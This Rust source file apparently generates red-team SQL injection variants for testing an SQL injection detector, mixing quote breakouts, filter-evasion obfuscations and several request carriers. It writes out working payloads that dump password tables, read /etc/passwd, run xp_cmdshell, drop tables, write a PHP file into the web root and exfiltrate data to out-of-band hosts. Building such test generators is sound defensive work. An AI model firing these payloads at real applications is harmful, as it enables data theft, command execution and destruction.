//! Red-team SQL injection, written apart from the detectors (held out in spirit): a way out of
//! the value's quoting context (numeric, `'`, `"`, backtick, `)`-closed, inside `LIKE '%…'`,
//! an ORDER BY / column-name position) × a technique (boolean, UNION, stacked, time, error,
//! out-of-band, login bypass) in one of five dialects × a literal spelling (hex, `char()`,
//! `concat`, adjacent strings) × an obfuscation (comments as spaces, MySQL versioned comments,
//! whitespace substitutes, `()` instead of spaces, scientific-notation glue, case) × a
//! terminator (`-- -`, `#`, `/*`, `;%00`, none) × where it travels (any field, User-Agent,
//! Referer, X-Forwarded-For, a cookie, a path segment).

use crate::mutate::{join, random_case, transport_layer};
use crate::place::Request;
use crate::{Carrier, Family, Rng, Variant};

pub struct RedteamSqli;

/// How the attacker leaves the original literal, and how the tail closes it again. The tail
/// is used when no comment terminator ends the statement.
struct Context {
    name: &'static str,
    opener: &'static [&'static str],
    tail: &'static str,
}

const CONTEXTS: &[Context] = &[
    Context { name: "numeric", opener: &["1", "42", "-1", "0", "9999"], tail: "" },
    Context { name: "single", opener: &["1'", "admin'", "x'", "'"], tail: " and 'a'='a" },
    Context { name: "double", opener: &["1\"", "admin\"", "\""], tail: " and \"a\"=\"a" },
    Context { name: "backtick", opener: &["id`", "name`"], tail: "" },
    Context { name: "paren", opener: &["1')", "1'))", "1\")", "1)", "x')"], tail: " and ('a'='a" },
    Context { name: "like", opener: &["%'", "a%'", "%\")"], tail: " and '%'='" },
    Context { name: "order-by", opener: &["", "id,", "1,", "name "], tail: "" },
];

/// A condition that reads the database's answer one bit at a time.
fn condition(rng: &mut Rng) -> String {
    let n = rng.range(1, 99);
    let m = rng.range(1, 99);
    match rng.below(12) {
        0 => format!("{n}={n}"),
        1 => format!("'{}'='{}'", (b'a' + rng.below(26) as u8) as char, (b'a' + rng.below(26) as u8) as char),
        2 => format!("{n} like {n}"),
        3 => format!("{n} between {} and {}", n.saturating_sub(1), n + 1),
        4 => format!("ascii(substr((select password from users limit 1),{},1))>{}", rng.range(1, 12), rng.range(48, 122)),
        5 => format!("(select count(*) from information_schema.tables)>{m}"),
        6 => format!("substring(@@version,1,1)={}", rng.range(4, 8)),
        7 => format!("length(database())>{}", rng.range(1, 9)),
        8 => format!("{n} in ({n},{m})"),
        9 => format!("ord(mid(user(),{},1))>{}", rng.range(1, 9), rng.range(60, 120)),
        10 => format!("(select 1 from dual where {n}={n})={}", 1),
        _ => format!("{n} rlike {n}"),
    }
}

/// A string or number literal as filters do not expect it.
fn literal(rng: &mut Rng, word: &str) -> (String, &'static str) {
    match rng.below(7) {
        0 => (format!("0x{}", word.bytes().map(|b| format!("{b:02x}")).collect::<String>()), "hex"),
        1 => (format!("char({})", word.bytes().map(|b| b.to_string()).collect::<Vec<_>>().join(",")), "char"),
        2 => {
            let cut = word.len() / 2;
            (format!("concat('{}','{}')", &word[..cut], &word[cut..]), "concat")
        }
        3 => (word.bytes().map(|b| format!("chr({b})")).collect::<Vec<_>>().join("||"), "chr-pipe"),
        4 => {
            let cut = word.len() / 2;
            (format!("'{}' '{}'", &word[..cut], &word[cut..]), "adjacent")
        }
        _ => (format!("'{word}'"), ""),
    }
}

/// The injected statement fragment (after the context opener, before the terminator) and the
/// technique's name.
pub(super) fn technique(rng: &mut Rng) -> (String, &'static str, &'static str) {
    let cols = rng.range(1, 8);
    let nulls = |k: usize| vec!["null"; k].join(",");
    let delay = rng.range(3, 15);
    let target = *rng.pick(&["admin", "root", "users", "passwd"]);
    let (word, lit) = literal(rng, target);
    match rng.below(9) {
        0 => {
            let op = *rng.pick(&["or", "and", "||", "&&", "xor", "OR", "AND"]);
            (format!(" {op} {}", condition(rng)), "boolean", lit)
        }
        1 => {
            let all = *rng.pick(&["", "all ", "distinct "]);
            let what = *rng.pick(&[
                "version()",
                "@@version",
                "user()",
                "database()",
                "group_concat(table_name) from information_schema.tables",
                "group_concat(username,0x3a,password) from users",
                "banner from v$version",
                "sqlite_version()",
                "name from sqlite_master",
                "table_name from all_tables",
                "current_user",
                "load_file('/etc/passwd')",
            ]);
            let front = nulls(cols.saturating_sub(1));
            let sep = if front.is_empty() { "" } else { "," };
            (format!(" union {all}select {front}{sep}{what}"), "union", "")
        }
        2 => {
            let stmt = *rng.pick(&[
                "drop table users",
                "exec master..xp_cmdshell 'whoami'",
                "exec xp_cmdshell 'ping -n 3 10.0.0.1'",
                "shutdown",
                "insert into users(login,pass) values('x','y')",
                "update users set password='x' where id=1",
                "declare @q varchar(99) set @q='sel'+'ect 1' exec(@q)",
                "create table t(x text); copy t from program 'id'",
                "select pg_sleep(5)",
                "truncate table logs",
            ]);
            (format!("; {stmt}"), "stacked", "")
        }
        3 => {
            let t = match rng.below(8) {
                0 => format!(" and sleep({delay})"),
                1 => format!(" and (select * from (select(sleep({delay})))a)"),
                2 => format!("; waitfor delay '0:0:{delay}'"),
                3 => format!(" and 1=(select 1 from pg_sleep({delay}))"),
                4 => format!(" or benchmark({}000000,md5(1))", delay),
                5 => format!(" and 1=dbms_pipe.receive_message('a',{delay})"),
                6 => format!(" and if({},sleep({delay}),0)", condition(rng)),
                _ => " and 1=like('ABCDEFG',upper(hex(randomblob(500000000/2))))".to_string(),
            };
            (t, "time", "")
        }
        4 => {
            let t = match rng.below(8) {
                0 => " and extractvalue(1,concat(0x7e,(select version()),0x7e))".to_string(),
                1 => " and updatexml(1,concat(0x7e,(select user())),1)".to_string(),
                2 => " and 1=convert(int,(select top 1 name from sysobjects))".to_string(),
                3 => " and 1=cast((select version()) as int)".to_string(),
                4 => " and (select 1 from(select count(*),concat(version(),floor(rand(0)*2))x from information_schema.tables group by x)a)"
                    .to_string(),
                5 => " and 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))".to_string(),
                6 => " and exp(~(select * from (select user())a))".to_string(),
                _ => " and 1=ctxsys.drithsx.sn(1,(select user from dual))".to_string(),
            };
            (t, "error", "")
        }
        5 => {
            let t = match rng.below(4) {
                0 => " union select load_file(concat('\\\\\\\\',version(),'.x1.oast.site\\\\a'))".to_string(),
                1 => "; exec master..xp_dirtree '\\\\x2.oast.site\\a'".to_string(),
                2 => " and 1=utl_http.request('http://x3.oast.site/'||(select user from dual))".to_string(),
                _ => " into outfile '/var/www/html/s.php'".to_string(),
            };
            (t, "out-of-band", "")
        }
        6 => (format!(" or username={word}"), "login", lit),
        7 => (format!(" having {}", condition(rng)), "having", ""),
        _ => {
            let t = match rng.below(4) {
                0 => format!(" order by {}", rng.range(3, 30)),
                1 => format!(" group by {}", rng.range(2, 20)),
                2 => " procedure analyse(extractvalue(rand(),concat(0x3a,version())),1)".to_string(),
                _ => format!(" and {} in (select {word})", rng.range(1, 9)),
            };
            (t, "probe", lit)
        }
    }
}

/// ORDER BY / column positions take an expression, not a quote break.
fn order_by(rng: &mut Rng) -> (String, &'static str) {
    match rng.below(5) {
        0 => (format!("(case when ({}) then id else name end)", condition(rng)), "boolean"),
        1 => (format!("if({},1,(select 1 union select 2))", condition(rng)), "boolean"),
        2 => (format!("(select 1 from (select sleep({}))x)", rng.range(3, 9)), "time"),
        3 => ("extractvalue(1,concat(0x7e,database()))".to_string(), "error"),
        _ => ("(select case when (1=1) then 1 else 1/(select 0) end)".to_string(), "boolean"),
    }
}

/// Spaces written as something a SQL parser also reads as a separator.
pub(super) fn obfuscate(rng: &mut Rng, text: &str) -> (String, &'static str) {
    match rng.below(8) {
        0 => (text.replace(' ', "/**/"), "comment-space"),
        1 => {
            let words = ["union", "select", "sleep", "and", "or ", "from", "order"];
            let mut out = text.to_string();
            for w in words {
                out = out.replace(w, &format!("/*!{}{w}*/", rng.range(40000, 50099)));
            }
            (out, "versioned-comment")
        }
        2 => {
            let sub = *rng.pick(&["\t", "\n", "\u{b}", "\u{c}", "\r", "\u{a0}", "+"]);
            (text.replace(' ', sub), "ws-substitute")
        }
        3 => (parenthesise(text), "parens"),
        4 => (text.replace(' ', &format!("/*{}*/", rng.range(0, 999))), "comment-space"),
        5 => (text.replace(' ', " \t "), "ws-run"),
        _ => (text.to_string(), ""),
    }
}

/// `union select x` → `union(select(x))`-like forms: keywords glued by parentheses.
fn parenthesise(text: &str) -> String {
    text.replace(" select ", "(select(")
        .replace("select ", "select(")
        .replace(" from ", ")from(")
        .replace(" and ", ")and(")
        .replace(" or ", ")or(")
}

fn terminator(rng: &mut Rng, ctx: &Context) -> (String, &'static str) {
    match rng.below(7) {
        0 => ("-- -".into(), "dash-comment"),
        1 => ("--".into(), "dash-comment"),
        2 => ("#".into(), "hash-comment"),
        3 => ("/*".into(), "open-comment"),
        4 => (";\u{0}".into(), "nul"),
        _ => (ctx.tail.into(), ""),
    }
}

fn carrier(rng: &mut Rng, payload: &str) -> (Carrier, &'static str) {
    match rng.below(12) {
        0 => (Carrier::Header("user-agent"), "in-user-agent"),
        1 => (Carrier::Header("referer"), "in-referer"),
        2 => (Carrier::Header("x-forwarded-for"), "in-xff"),
        3 => {
            let value: String =
                payload.chars().map(|c| if matches!(c, ';' | ' ' | ',' | '"' | '\t' | '\n' | '\r') { '+' } else { c }).collect();
            let req = Request::new("GET", "/account").header("Cookie", &format!("lang=en; uid={value}"));
            (Carrier::Request(req), "in-cookie")
        }
        4 => {
            let seg = crate::mutate::percent_specials(payload);
            (Carrier::Request(Request::new("GET", &format!("/products/{seg}/reviews"))), "in-path")
        }
        5 => {
            let body = format!("{{\"filter\":{{\"id\":{}}},\"limit\":20}}", crate::place::json_string(payload));
            let req = Request::new("POST", "/api/search").header("Content-Type", "application/json").body(&body);
            (Carrier::Request(req), "in-json-filter")
        }
        _ => (Carrier::Value, ""),
    }
}

impl Family for RedteamSqli {
    fn name(&self) -> &'static str {
        "redteam-sqli"
    }

    fn detector(&self) -> &'static str {
        "sqli"
    }

    fn generate(&self, rng: &mut Rng) -> Variant {
        let ctx = &CONTEXTS[rng.below(CONTEXTS.len())];
        let opener = *rng.pick(ctx.opener);
        let (body, tech, lit) = if ctx.name == "order-by" {
            let (body, tech) = order_by(rng);
            (body, tech, "")
        } else {
            technique(rng)
        };
        let glue = if ctx.name == "numeric" && tech == "union" && rng.chance(0.3) { "e0" } else { "" };
        let (end, term) = terminator(rng, ctx);
        let raw = if glue.is_empty() {
            format!("{opener}{body}{end}")
        } else {
            // `1e0union select`: the number's exponent ends the token, so no space is needed.
            format!("{opener}{glue}{}{end}", body.trim_start())
        };
        let (mut text, obf) = obfuscate(rng, &raw);
        let case = if rng.chance(0.4) {
            text = random_case(rng, &text);
            "case"
        } else {
            ""
        };
        let (carrier, place) = carrier(rng, &text);
        let (text, layer) = if matches!(carrier, Carrier::Value) { transport_layer(rng, &text) } else { (text, "") };
        let sci = if glue.is_empty() { "" } else { "sci-glue" };
        Variant { family: self.name(), mutation: join(&[ctx.name, tech, lit, obf, sci, term, case, place, layer]), payload: text, carrier }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn varied_and_seeded() {
        super::super::assert_varied_and_seeded(&RedteamSqli, 400, 300);
        let a = crate::sample(&RedteamSqli, 5, 400);
        for tech in ["boolean", "union", "stacked", "time", "error", "backtick", "order-by", "in-path", "in-cookie"] {
            assert!(a.iter().any(|v| v.mutation.split('+').any(|m| m == tech)), "{tech}");
        }
    }
}
